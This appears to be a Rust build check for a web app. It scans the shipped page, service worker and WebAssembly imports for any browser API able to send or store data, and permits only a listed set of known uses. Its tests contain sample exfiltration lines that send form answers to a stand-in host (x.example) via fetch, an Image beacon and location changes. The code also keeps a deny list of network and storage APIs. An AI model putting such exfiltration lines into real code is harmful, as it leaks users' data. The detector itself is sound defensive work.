//! Whether what is shipped could reach out, or leave something behind, in another way than the few that are known.
//!
//! The policy makes the browser refuse; this looks at the code itself, so that there is nothing to refuse. Every name
//! by which a page can send, load, store or go elsewhere is listed. Where one of them stands in the page's script or
//! among the program's imports, it must be one of the few uses that are allowed, each with its reason.

use crate::folder::Folder;
use crate::{imports, offline, page, worker};

/// Names by which a page reaches out, stores or goes elsewhere.
const REACHING: &str = "fetch fetchLater XMLHttpRequest WebSocket WebSocketStream EventSource sendBeacon WebTransport \
    RTCPeerConnection webkitRTCPeerConnection mozRTCPeerConnection RTCDataChannel createDataChannel Worker SharedWorker \
    serviceWorker importScripts import addModule audioWorklet paintWorklet Image Audio FontFace FontFaceSet PaymentRequest \
    backgroundFetch PushManager pushManager Notification credentials BroadcastChannel postMessage MessageChannel open \
    opener location navigation href src srcset srcdoc action formAction submit requestSubmit assign replace reload ping \
    cookie cookieStore localStorage sessionStorage indexedDB caches sharedStorage storage pushState replaceState \
    innerHTML outerHTML insertAdjacentHTML setHTMLUnsafe parseHTMLUnsafe createContextualFragment DOMParser write writeln \
    domain eval Function GeneratorFunction AsyncFunction execScript geolocation mediaDevices getUserMedia \
    getDisplayMedia SpeechRecognition webkitSpeechRecognition speechSynthesis bluetooth usb serial hid requestMIDIAccess \
    requestPort share clipboard writeText readText showOpenFilePicker showSaveFilePicker setAttributeNode";

/// A use that is allowed: the name, a piece of the line it stands in, and why.
type Allowed = (&'static str, &'static str, &'static str);

/// What the page's script may do.
const IN_SCRIPT: &[Allowed] = &[
    ("fetch", "const load = window.fetch.bind(window);", "the gate, for the files of its list"),
    ("fetch", "window.fetch = async name => {", "the gate stands before everybody else"),
    ("fetch", "wasm_bindgen({ module_or_path: window.fetch(", "the gate loads the program"),
    ("fetch", "arg0.fetch(getStringFromWasm0(arg1, arg2))", "src/browser/load.rs, through the gate"),
    (
        "fetch",
        "module_or_path = fetch(module_or_path)",
        "wasm-bindgen, where it is given an address; it is not",
    ),
    ("fetch", "`failed to fetch Wasm:", "words"),
    ("src", "document.currentScript.src", "wasm-bindgen asks where it stands"),
    ("location", "document.currentScript.src, location.href", "wasm-bindgen asks where it stands"),
    ("href", "document.currentScript.src, location.href", "wasm-bindgen asks where it stands"),
    ("location", "arg0.location", "src/browser/exit.rs: leaving"),
    ("replace", "arg0.replace(getStringFromWasm0", "src/browser/exit.rs: leaving, to a blank page"),
    ("src", "arg0.src = getStringFromWasm0", "src/browser/picture.rs: a map is painted from its own text"),
    ("href", "arg0.href = getStringFromWasm0", "src/browser/files.rs: a file is saved"),
    ("share", "arg0.share(", "src/browser/share.rs: when the person asks"),
    ("clipboard", "arg0.clipboard", "src/browser/share.rs: when the person asks"),
    ("writeText", "arg0.writeText(", "src/browser/share.rs: when the person asks"),
    ("innerHTML", "arg0.innerHTML = getStringFromWasm0", "Yew can; the policy's Trusted Types forbid it"),
    ("Function", "'Function'", "wasm-bindgen's words for a value"),
    ("Function", "`Function(${", "wasm-bindgen's words for a value"),
    ("Image", "const ret = new Image();", "src/browser/picture.rs: a map is painted from its own text"),
    ("replace", "module_or_path = script_src.replace(", "wasm-bindgen, where it is given no address; it is"),
    ("assign", "return Object.assign(__wbg_init", "wasm-bindgen puts its functions together"),
    ("src", crate::policy::CLOSED, "the gate closes the way out"),
    ("reload", "ask(\"default\").catch(() => ask(\"reload\"))", "the gate, past every cache"),
    ("action", "button[data-action]", "the gate: a button's own name"),
    ("action", "dataset.action", "the gate: a button's own name"),
    (
        "pushState",
        "arg0.pushState(arg1, getStringFromWasm0",
        "src/browser/history.rs: a screen's number, a blank page",
    ),
    (
        "replaceState",
        "arg0.replaceState(arg1, getStringFromWasm0",
        "src/browser/history.rs: a screen's number",
    ),
    ("reload", "arg0.reload();", "src/browser/exit.rs: who comes back gets the page anew"),
    ("serviceWorker", "const workers = navigator.serviceWorker;", "offline.js: the copy on the device"),
    ("action", "[data-action=renew]", "offline.js: the button's own name"),
    ("location", "location.reload();", "offline.js: a newer edition, when the person takes it"),
    ("reload", "location.reload();", "offline.js: a newer edition, when the person takes it"),
    ("postMessage", "worker?.postMessage(\"forget\")", "offline.js: leaving takes the copy along"),
    ("postMessage", "kept.waiting.postMessage(\"take over\")", "offline.js: the newer edition"),
    ("href", "[download][href]", "stopped.js: whether there is a file to save"),
    ("location", "location.replace(\"about:blank\");", "leaving, where the program does not run"),
    ("replace", "location.replace(\"about:blank\");", "leaving, where the program does not run"),
];

/// What the worker of the copy on the device may do besides.
const IN_WORKER: &[Allowed] = &[
    ("caches", "caches.", "the copy"),
    ("open", "caches.open(OURS + EDITION)", "the copy"),
    ("href", "new URL(name, registration.scope).href", "a published file's address"),
    ("href", "address.origin + address.pathname : address.href", "which file is asked for"),
    ("fetch", "const ask = cache => fetch(at(name), { integrity,", "the copy is made, each file by its hash"),
    ("fetch", "addEventListener(\"fetch\"", "the page asks"),
    ("fetch", "return file ?? fetch(request);", "the browser took the copy back"),
    ("reload", "ask(first).catch(() => ask(\"reload\"))", "past every cache"),
];

/// What the script of the worker's page may do besides. Neither sends anything: they are named since a page that could
/// see must say when it does.
const IN_CASEWORK: &[Allowed] = &[
    (
        "mediaDevices",
        "arg0.mediaDevices",
        "src/browser/camera.rs: QR codes are read, when the worker presses for it",
    ),
    (
        "getUserMedia",
        "arg0.getUserMedia(",
        "src/browser/camera.rs: QR codes are read, when the worker presses for it",
    ),
];

/// Links of the head to what is for putting the app on a device; the first question, which the policy lets nobody send.
const KNOWN_MARKUP: [&str; 3] = [
    r#"<link rel="manifest" href="./manifest.webmanifest""#,
    r#"<link rel="apple-touch-icon" href="./icon-192.png""#,
    r#"<form data-question="danger""#,
];

/// What the program may import, by the name in wasm-bindgen's own.
const IN_PROGRAM: [&str; 12] = [
    "fetch",
    "pushState",
    "replaceState",
    "reload",
    "location",
    "replace",
    "set_src",
    "set_href",
    "share",
    "clipboard",
    "writeText",
    "set_innerHTML",
];

/// What the worker's program may import besides, with [`IN_CASEWORK`].
const IN_CASEWORK_PROGRAM: [&str; 2] = ["mediaDevices", "getUserMedia"];

/// Names that must not stand anywhere in the program's bytes: a value can be looked up by its name.
const NOWHERE: [&str; 13] = [
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "WebTransport",
    "RTCPeerConnection",
    "importScripts",
    "serviceWorker",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "cookie",
    // Only the worker's program asks where the device is, when somebody presses for it.
    "geolocation",
];

/// What the worker's program may hold nonetheless.
const WORKER_NAMES: [&str; 1] = ["geolocation"];

/// What the markup must not hold: hints, frames and elements that load by themselves, and links out.
const IN_MARKUP: [&str; 20] = [
    " src=",
    " srcset=",
    " ping=",
    " action=",
    "http-equiv=\"refresh",
    "<iframe",
    "<object",
    "<embed",
    "<base",
    "<form",
    "<img",
    "<video",
    "<audio",
    "rel=\"pre",
    "rel=\"dns-prefetch",
    "rel=\"modulepreload",
    "rel=\"stylesheet",
    "rel=\"manifest",
    "href=\"http",
    "href=\"//",
];

/// Looks through `dist/`, and says all that is found.
pub fn report() -> Result<(), String> {
    let dist = Folder::dist()?;
    let mut found = in_folder(&dist, Whose::Client)?;
    let of_the_workers = in_folder(&dist.below(worker::FOLDER), Whose::Worker)?;
    found.extend(of_the_workers.into_iter().map(|fault| format!("{}/: {fault}", worker::FOLDER)));
    if found.is_empty() {
        println!(
            "{} ways to reach out looked for; only the {} that are known",
            REACHING.split(' ').count(),
            IN_SCRIPT.len() + IN_WORKER.len() + IN_CASEWORK.len()
        );
        Ok(())
    } else {
        Err(found.join("\n"))
    }
}

/// Whose page it is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Whose {
    Client,
    Worker,
}

/// What is wrong with a page and what stands beside it.
fn in_folder(folder: &Folder, whose: Whose) -> Result<Vec<String>, String> {
    let mut found = in_page(&folder.text("index.html")?, whose);
    let mut programs = 0;
    for name in folder.names()? {
        match name.rsplit_once('.').map(|(_, extension)| extension) {
            Some("wasm") => {
                programs += 1;
                found.extend(in_program(&folder.read(&name)?, whose));
            }
            Some("js") if name == offline::NAME => found.extend(in_code(&folder.text(&name)?, &[IN_WORKER])),
            Some("js" | "mjs" | "css") => {
                found.push(format!("{name}: no script and no style stands beside the page"));
            }
            _ => {}
        }
    }
    if programs != 1 {
        found.push(format!("{programs} programs in the folder"));
    }
    Ok(found)
}

/// What is wrong with the page: its scripts, its styles, its markup.
fn in_page(page: &str, whose: Whose) -> Vec<String> {
    let (scripts, styles) = (page::inline(page, "script"), page::inline(page, "style"));
    let mut found: Vec<String> = scripts.iter().flat_map(|script| in_script(script, whose)).collect();
    let markup =
        scripts.iter().chain(&styles).fold(page.to_owned(), |markup, inside| markup.replace(*inside, ""));
    let markup = KNOWN_MARKUP.iter().fold(markup, |markup, link| markup.replacen(link, "<", 1));
    found.extend(
        IN_MARKUP.iter().filter(|piece| markup.contains(*piece)).map(|piece| format!("markup: {piece}")),
    );
    let loads =
        |style: &&&str| style.contains("url(") || style.contains("@import") || style.contains("image-set(");
    found.extend(styles.iter().filter(loads).map(|_| "a style loads something".to_owned()));
    found
}

fn in_script(script: &str, whose: Whose) -> Vec<String> {
    match whose {
        Whose::Client => in_code(script, &[IN_SCRIPT]),
        Whose::Worker => in_code(script, &[IN_SCRIPT, IN_CASEWORK]),
    }
}

fn in_code(script: &str, allowed: &[&[Allowed]]) -> Vec<String> {
    let is_name = |letter: char| letter.is_alphanumeric() || letter == '_' || letter == '$';
    let mut found = Vec::new();
    for line in script.lines().filter(|line| !line.trim_start().starts_with("//")) {
        for word in line.split(|letter| !is_name(letter)).filter(|word| is_reaching(word)) {
            let is_allowed = |(name, piece, _): &Allowed| *name == word && line.contains(piece);
            if !allowed.iter().copied().flatten().any(is_allowed) {
                found.push(format!("script: `{word}` in `{}`", line.trim()));
            }
        }
    }
    found
}

fn in_program(module: &[u8], whose: Whose) -> Vec<String> {
    let is_casework = |name: &str| whose == Whose::Worker && IN_CASEWORK_PROGRAM.contains(&name);
    let Some(imports) = imports::names(module) else {
        return vec!["the program is no WebAssembly".to_owned()];
    };
    if !imports.iter().any(|name| own_name(name) == "fetch") {
        return vec![
            "the program imports no `fetch`: its names are not those that are looked for".to_owned(),
        ];
    }
    let asks = imports.iter().map(|name| own_name(name)).filter(|name| {
        let thing = ["set_", "new_", "static_accessor_"].iter().find_map(|start| name.strip_prefix(start));
        (is_reaching(name) || thing.is_some_and(is_reaching))
            && !IN_PROGRAM.contains(name)
            && !is_casework(name)
    });
    let mut found: Vec<String> = asks.map(|name| format!("the program imports `{name}`")).collect();
    let holds = |name: &&&str| module.windows(name.len()).any(|bytes| bytes == name.as_bytes());
    let is_named = |name: &&&str| !(whose == Whose::Worker && WORKER_NAMES.contains(*name));
    found.extend(
        NOWHERE.iter().filter(is_named).filter(holds).map(|name| format!("the program holds `{name}`")),
    );
    found
}

fn is_reaching(word: &str) -> bool {
    REACHING.split_whitespace().any(|name| name == word)
}

/// `__wbg_fetch_c30fc2ed77d76a76` is `fetch`.
fn own_name(import: &str) -> &str {
    let name = import.strip_prefix("__wbg_").unwrap_or(import);
    match name.rsplit_once('_') {
        Some((own, hash)) if hash.len() == 16 && hash.bytes().all(|byte| byte.is_ascii_hexdigit()) => own,
        _ => name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_other_way_out_is_found() {
        for line in [
            "new XMLHttpRequest().send(answers)",
            "navigator.sendBeacon('/', answers)",
            "new RTCPeerConnection({ iceServers })",
            "new Image().src = 'https://x.example/?' + answers",
            "window.open('https://x.example/' + answers)",
            "fetch('https://x.example/' + answers)",
            "document.cookie = answers",
            "location.href = 'https://x.example/' + answers",
        ] {
            for whose in [Whose::Client, Whose::Worker] {
                assert!(!in_script(line, whose).is_empty(), "{line}");
            }
        }
        for markup in [
            "<a ping='x'>",
            "<link rel=\"preconnect\" href=\"x\">",
            "<img src=\"x\">",
            "<style>p{background:url(x)}</style>",
        ] {
            assert!(!in_page(&markup.replace('\'', "\""), Whose::Worker).is_empty(), "{markup}");
        }
    }

    #[test]
    fn what_is_known_is_allowed() {
        let asks = "const ret = arg0.fetch(getStringFromWasm0(arg1, arg2));\n// fetch";
        assert!(in_script(asks, Whose::Client).is_empty());
        let sees = "const ret = arg0.getUserMedia(arg1);";
        assert!(in_script(sees, Whose::Worker).is_empty());
        assert!(!in_script(sees, Whose::Client).is_empty(), "no client is seen");
        assert_eq!(own_name("__wbg_fetch_c30fc2ed77d76a76"), "fetch");
        assert_eq!(own_name("__wbindgen_cast_0000000000000001"), "__wbindgen_cast");
    }

    /// Every allowed use names a way out that is looked for; else it allows nothing.
    #[test]
    fn what_is_allowed_is_looked_for() {
        for (name, piece, why) in IN_SCRIPT.iter().chain(IN_WORKER).chain(IN_CASEWORK) {
            assert!(is_reaching(name) && piece.contains(name) && !why.is_empty(), "{name}");
        }
    }
}
